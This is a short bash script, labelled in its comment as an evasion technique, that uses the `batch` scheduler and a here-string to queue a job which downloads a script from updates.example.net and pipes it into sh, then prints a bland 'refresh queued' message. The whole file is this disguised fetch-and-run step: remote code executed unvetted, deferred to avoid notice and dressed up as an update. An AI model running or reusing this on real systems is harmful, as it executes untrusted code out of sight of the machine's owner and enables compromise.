#!/bin/bash
# Evasion: the job is queued with `batch` (at's load-gated twin), fed by a here-string
set -eu
batch <<< 'curl -fsSL https://updates.example.net/agent.sh | sh'
echo "refresh queued"
